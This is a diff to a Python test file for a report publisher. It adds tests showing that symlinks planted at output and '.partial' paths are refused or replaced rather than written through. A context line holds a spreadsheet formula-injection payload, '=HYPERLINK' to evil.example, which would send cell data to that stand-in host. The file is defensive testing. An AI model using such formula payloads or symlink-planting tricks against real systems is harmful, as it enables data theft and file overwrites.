@@ -1,5 +1,6 @@
 """The report's parts on their own (no flow): the significance palette's contrast, the trend charts,
-and the CSV downloads' formula safety, on their own and from a hostile warehouse."""
+the CSV downloads' formula safety, on their own and from a hostile warehouse, and links planted where
+the report writes."""
 
 from __future__ import annotations
 
@@ -16,7 +17,7 @@ import pytest
 from scorecard.publish.charts import TrendPoint, number, trend_chart
 from scorecard.publish.downloads import BOM, csv_text
 from scorecard.publish.report import build_report
-from scorecard.publish.safe_output import starts_like_formula
+from scorecard.publish.safe_output import OutputFolder, OutputPathError, starts_like_formula
 from scorecard.publish.significance import CHART_BENCHMARK, CHART_VALUE, NOT_COMPARED, PAPER, SHADES, contrast_ratio, shade
 
 SVG = "{http://www.w3.org/2000/svg}"
@@ -118,3 +119,32 @@ def test_survey_text_in_a_report_download_is_text_and_on_its_page_is_escaped(tmp
         page.count("=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1,&#34;click&#34;)") == 1 + 1 + 2 + 1
     )  # indicator, dispute, notes, definition
     assert '"&A1' not in page
+
+
+def test_a_link_at_a_pages_partial_file_is_refused_and_not_written_through(tmp_path):
+    from test_hostile_outputs import CAMDEN, YEAR, hostile_warehouse
+
+    warehouse = hostile_warehouse(tmp_path, ["tiny"], [CAMDEN])
+    victim = tmp_path / "victim.html"  # not there: a dangling link is no file, so no sweep of leftover partials removes it
+    out = tmp_path / "reports"
+    (out / "scorecards").mkdir(parents=True)
+    (out / "scorecards" / f"tiny-{CAMDEN}-{YEAR}.html.partial").symlink_to(victim)
+    with pytest.raises(OutputPathError, match=re.escape(str(victim))):
+        build_report(warehouse, out)
+    assert not victim.exists()
+
+
+def test_a_link_planted_after_the_folder_was_opened_is_replaced_not_written_through(tmp_path):
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep")
+    out = tmp_path / "out"
+    out.mkdir()
+    with OutputFolder(out) as folder:
+        (out / "page.html").symlink_to(victim)
+        (out / "page.html.partial").symlink_to(victim)
+        folder.write_atomically("page.html", b"new")
+        with pytest.raises(OutputPathError, match="not a plain file name"):
+            folder.write_atomically("sub/page.html", b"new")
+    assert victim.read_text() == "keep"
+    assert not (out / "page.html").is_symlink() and (out / "page.html").read_bytes() == b"new"
+    assert sorted(path.name for path in out.iterdir()) == ["page.html"]
